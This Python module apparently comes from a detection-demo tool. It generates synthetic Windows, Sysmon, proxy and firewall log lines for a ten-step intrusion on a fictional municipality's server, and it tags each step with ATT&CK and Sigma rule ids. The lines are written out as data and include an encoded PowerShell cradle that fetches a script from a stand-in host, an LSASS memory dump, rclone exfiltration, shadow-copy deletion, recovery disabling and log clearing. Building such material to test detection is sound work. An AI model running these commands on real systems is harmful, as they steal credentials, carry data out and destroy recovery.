"""The attack that the demo tells: one municipality's server, ten steps in some forty seconds, as logs would show it.

Password spray from outside, a remote logon that succeeds, encoded PowerShell that downloads, discovery, the memory of
LSASS dumped, a remote service, backup stopped, data carried out, shadow copies deleted, the log cleared. Every line is
one that published Sigma rules match (their ids stand at each step); nothing here runs anything. Addresses and names are
from the ranges kept for documentation.
"""

from __future__ import annotations

import base64
import datetime as dt
import random
from collections.abc import Callable, Sequence

import attrs

from samdrift.cli.demo import syslog_day, winlogbeat
from samdrift.cli.demo.people import Municipality
from samdrift.cli.demo.plan import FeedKind
from samdrift.cli.demo.winlogbeat import POWERSHELL, SECURITY, SYSMON, SYSTEM, Agent

INTRUDER = "203.0.113.243"
STAGE = "opdatering-cdn.example"
_CMD = "C:\\Windows\\System32\\cmd.exe"
_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_SYSTEM_ACCOUNT = "NT AUTHORITY\\SYSTEM"
_SCRIPT = f"$c=New-Object Net.WebClient;IEX $c.DownloadString('http://{STAGE}/a.ps1')"

Make = Callable[[dt.datetime], bytes]


@attrs.frozen
class StoryLine:
    """One line of the attack: which kind of feed it comes in by, and how it reads when written at an instant."""

    kind: FeedKind
    make: Make


@attrs.frozen(kw_only=True)
class Step:
    """One technique. `after_s` counts from the first step; `lines` are spread over `lasts_s` seconds.

    `technique` is ATT&CK's number; `sigma` are ids of published rules that match one of the lines.
    """

    after_s: float
    technique: str
    title: str
    lines: Sequence[StoryLine]
    lasts_s: float = 0.5
    sigma: Sequence[str] = ()


@attrs.define
class _Scene:
    """The stage: whose server, by which account."""

    town: Municipality
    host: str
    chance: random.Random
    agent: Agent = attrs.field(init=False)

    def __attrs_post_init__(self) -> None:
        self.agent = Agent(self.town, self.host, self.chance)

    @property
    def account(self) -> str:
        return self.town.people[0].account

    def windows(
        self, channel: str, event_id: int, data: Callable[[dt.datetime], dict[str, object]], **more: object
    ) -> StoryLine:
        return StoryLine(FeedKind.WINDOWS, lambda at: self.agent.line(channel, event_id, data(at), at, **more))  # type: ignore[arg-type]

    def runs(
        self,
        image: str,
        command_line: str,
        *,
        parent: str = _CMD,
        system: bool = False,
        original: str = "",
        description: str = "-",
        company: str = "Microsoft Corporation",
    ) -> StoryLine:
        """A process started on the server, as Sysmon tells it."""
        user = _SYSTEM_ACCOUNT if system else f"{self.town.netbios}\\{self.account}"
        return self.windows(
            SYSMON,
            1,
            lambda at: winlogbeat.sysmon_process(
                self.chance,
                at,
                image=image,
                command_line=command_line,
                user=user,
                parent=parent,
                parent_command_line=parent,
                original=original,
                description=description,
                company=company,
                integrity="System" if system else "High",
                folder=f"C:\\Users\\{self.account}\\",
            ),
        )


def make_story(town: Municipality, host: str, *, seed: int) -> Sequence[Step]:
    """Return the steps in time order. The same seed gives the same story."""
    scene = _Scene(town, host, random.Random(f"{seed}/story"))
    return [
        _spray(scene),
        _remote_logon(scene),
        _download(scene),
        _discovery(scene),
        _credentials(scene),
        _remote_service(scene),
        _backup_stopped(scene),
        _carried_out(scene),
        _recovery_inhibited(scene),
        _log_cleared(scene),
    ]


def _spray(scene: _Scene) -> Step:
    accounts = ["administrator", "admin", "backup", *[person.account for person in scene.town.people[:22]]]
    return Step(
        after_s=0,
        lasts_s=3,
        technique="T1110.003",
        title="Password spray from an address outside",
        lines=[
            scene.windows(
                SECURITY,
                4625,
                lambda at, account=account, place=place: winlogbeat.failed_logon(  # type: ignore[misc]
                    scene.town, scene.chance, account, kind=3, ip=INTRUDER, known=place > 2
                ),
                failed=True,
            )
            for place, account in enumerate(accounts)
        ],
        sigma=("f88e112a-21aa-44bd-9b01-6ee2a2bbbed1",),
    )


def _remote_logon(scene: _Scene) -> Step:
    return Step(
        after_s=4,
        technique="T1078",
        title="One of the passwords was right: remote desktop from the same address",
        lines=[
            scene.windows(
                SECURITY,
                4624,
                lambda at: winlogbeat.logon(
                    scene.town, scene.chance, scene.account, kind=10, ip=INTRUDER, workstation=scene.host
                ),
            ),
        ],
        sigma=("259a9cdf-c4dd-4fa2-b243-2269e5ab18a2",),
    )


def _download(scene: _Scene) -> Step:
    encoded = base64.b64encode(_SCRIPT.encode("utf-16-le")).decode()
    command = f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}"
    agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; da-DK) WindowsPowerShell/5.1.20348.2849"
    return Step(
        after_s=8,
        technique="T1059.001",
        title="PowerShell with an encoded command downloads more",
        lines=[
            scene.runs(_POWERSHELL, command, original="PowerShell.EXE", description="Windows PowerShell"),
            scene.windows(
                POWERSHELL,
                4104,
                lambda at: {
                    "MessageNumber": "1",
                    "MessageTotal": "1",
                    "ScriptBlockText": _SCRIPT,
                    "ScriptBlockId": "0f6e4a0c-0b52-4c0e-9f3e-7a1d2b9c6d11",
                    "Path": "",
                },
                level="warning",
            ),
            scene.windows(SYSMON, 22, lambda at: _looked_up(scene, at)),
            StoryLine(
                FeedKind.SQUID,
                lambda at: syslog_day.squid_request(
                    scene.town, f"{scene.town.slug}-proxy01", at, scene.host, scene.account,
                    "GET", f"http://{STAGE}/a.ps1", 200, 48_211, agent,
                ),
            ),
        ],
        sigma=(
            "ca2092a1-c273-4878-9b4b-0d60115bf5ea",
            "c8557060-9221-4448-8794-96320e6f3e74",
        ),
    )  # fmt: skip


def _looked_up(scene: _Scene, at: dt.datetime) -> dict[str, object]:
    return {
        "RuleName": "-",
        "UtcTime": winlogbeat.utc_time(at),
        "ProcessGuid": winlogbeat.process_guid(scene.chance),
        "ProcessId": "5244",
        "QueryName": STAGE,
        "QueryStatus": "0",
        "QueryResults": "::ffff:203.0.113.244;",
        "Image": _POWERSHELL,
        "User": f"{scene.town.netbios}\\{scene.account}",
    }


def _discovery(scene: _Scene) -> Step:
    return Step(
        after_s=12,
        lasts_s=2,
        technique="T1069.002",
        title="Who is who: whoami, domain admins, domain controllers",
        lines=[
            scene.runs("C:\\Windows\\System32\\whoami.exe", "whoami /all"),
            scene.runs("C:\\Windows\\System32\\net.exe", 'net group "domain admins" /domain'),
            scene.runs("C:\\Windows\\System32\\net1.exe", 'C:\\Windows\\system32\\net1 group "domain admins" /domain'),
            scene.runs(
                "C:\\Windows\\System32\\nltest.exe", "nltest /domain_trusts /all_trusts", original="nltestrk.exe"
            ),
        ],
        sigma=("c248c896-e412-4279-8c15-1c558067b6fa", "d95de845-b83c-4a9a-8a6a-4fc802ebf6c0"),
    )


def _credentials(scene: _Scene) -> Step:
    image = "C:\\Windows\\System32\\rundll32.exe"
    command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 756 C:\\Windows\\Temp\\l.dmp full"
    return Step(
        after_s=17,
        technique="T1003.001",
        title="The memory of LSASS is dumped with comsvcs.dll",
        lines=[
            scene.runs(image, command, original="RUNDLL32.EXE", description="Windows host process (Rundll32)"),
            scene.windows(
                SYSMON,
                10,
                lambda at: {
                    "RuleName": "-",
                    "UtcTime": winlogbeat.utc_time(at),
                    "SourceProcessGUID": winlogbeat.process_guid(scene.chance),
                    "SourceProcessId": "6120",
                    "SourceThreadId": "6124",
                    "SourceImage": image,
                    "TargetProcessGUID": winlogbeat.process_guid(scene.chance),
                    "TargetProcessId": "756",
                    "TargetImage": "C:\\Windows\\System32\\lsass.exe",
                    "GrantedAccess": "0x1fffff",
                    "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                    "C:\\Windows\\SYSTEM32\\dbgcore.DLL+6ce4|C:\\Windows\\System32\\comsvcs.dll+2cd4f",
                    "SourceUser": f"{scene.town.netbios}\\{scene.account}",
                    "TargetUser": _SYSTEM_ACCOUNT,
                },
            ),
            scene.windows(
                SYSMON,
                11,
                lambda at: {
                    "RuleName": "-",
                    "UtcTime": winlogbeat.utc_time(at),
                    "ProcessGuid": winlogbeat.process_guid(scene.chance),
                    "ProcessId": "6120",
                    "Image": image,
                    "TargetFilename": "C:\\Windows\\Temp\\l.dmp",
                    "CreationUtcTime": winlogbeat.utc_time(at),
                    "User": f"{scene.town.netbios}\\{scene.account}",
                },
            ),
        ],
        sigma=("646ea171-dded-4578-8a4d-65e9822892e3",),
    )


def _remote_service(scene: _Scene) -> Step:
    service = "C:\\Windows\\PSEXESVC.exe"
    return Step(
        after_s=22,
        technique="T1569.002",
        title="PsExec: a service is installed and gives SYSTEM",
        lines=[
            scene.windows(
                SYSTEM,
                7045,
                lambda at: {
                    "ServiceName": "PSEXESVC",
                    "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                    "ServiceType": "user mode service",
                    "StartType": "demand start",
                    "AccountName": "LocalSystem",
                },
            ),
            scene.runs(
                service,
                service,
                parent="C:\\Windows\\System32\\services.exe",
                system=True,
                original="psexesvc.exe",
                description="PsExec Service",
                company="Sysinternals",
            ),
            scene.runs(_CMD, '"cmd.exe"', parent=service, system=True, original="Cmd.Exe"),
        ],
        sigma=("42c575ea-e41e-41f1-b248-8093c3e82a28", "fdfcbd78-48f1-4a4b-90ac-d82241e368c5"),
    )


def _backup_stopped(scene: _Scene) -> Step:
    return Step(
        after_s=26,
        technique="T1489",
        title="The backup service is stopped and switched off",
        lines=[
            scene.runs("C:\\Windows\\System32\\net.exe", "net stop VeeamBackupSvc /y", system=True),
            scene.runs(
                "C:\\Windows\\System32\\net1.exe", "C:\\Windows\\system32\\net1 stop VeeamBackupSvc /y", system=True
            ),
            scene.runs("C:\\Windows\\System32\\sc.exe", "sc config VeeamBackupSvc start= disabled", system=True),
            scene.windows(SYSTEM, 7036, lambda at: {"param1": "Veeam Backup Service", "param2": "stopped"}),
        ],
        sigma=("88872991-7445-4a22-90b2-a3adadb0e827",),
    )


def _carried_out(scene: _Scene) -> Step:
    command = (
        "C:\\ProgramData\\rclone.exe copy D:\\Drev\\Borgersager mega:ud --config C:\\ProgramData\\rc.conf "
        "--no-check-certificate --transfers 16"
    )
    return Step(
        after_s=30,
        technique="T1567.002",
        title="Citizens' cases are copied to a cloud store with rclone",
        lines=[
            scene.runs(
                "C:\\ProgramData\\rclone.exe",
                command,
                system=True,
                original="rclone.exe",
                description="Rsync for cloud storage",
                company="https://rclone.org",
            ),
            StoryLine(
                FeedKind.FORTIGATE,
                lambda at: syslog_day.fortigate_traffic(
                    scene.town,
                    f"{scene.town.slug}-fw01",
                    at,
                    scene.chance,
                    (scene.town.address_of(scene.host), "203.0.113.245", 443),
                    "accept",
                    ("servers", "wan1"),
                    (4_831_838_208, 2_113_204),
                ),
            ),
        ],
        sigma=("e37db05d-d1f9-49c8-b464-cee1a4b11638",),
    )


def _recovery_inhibited(scene: _Scene) -> Step:
    return Step(
        after_s=35,
        lasts_s=1.5,
        technique="T1490",
        title="Shadow copies are deleted, recovery is switched off",
        lines=[
            scene.runs("C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet", system=True),
            scene.runs("C:\\Windows\\System32\\wbadmin.exe", "wbadmin delete catalog -quiet", system=True),
            scene.runs("C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled no", system=True),
        ],
        sigma=("c947b146-0abc-4c87-9c64-b17e9d7274a2", "1444443e-6757-43e4-9ea4-c8fc705f79a2"),
    )


def _log_cleared(scene: _Scene) -> Step:
    return Step(
        after_s=40,
        technique="T1070.001",
        title="The security log is cleared",
        lines=[
            scene.runs("C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security", system=True),
            scene.windows(
                SECURITY,
                1102,
                lambda at: {},
                provider=("Microsoft-Windows-Eventlog", "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"),
                user_data={
                    "xml_name": "LogFileCleared",
                    "SubjectUserSid": "S-1-5-18",
                    "SubjectUserName": "SYSTEM",
                    "SubjectDomainName": "NT AUTHORITY",
                    "SubjectLogonId": "0x3e7",
                },
            ),
        ],
        sigma=("cc36992a-4671-4f21-a91d-6c2b72a2edf5", "d99b79d2-0a6f-4f46-ad8b-260b6e17f982"),
    )
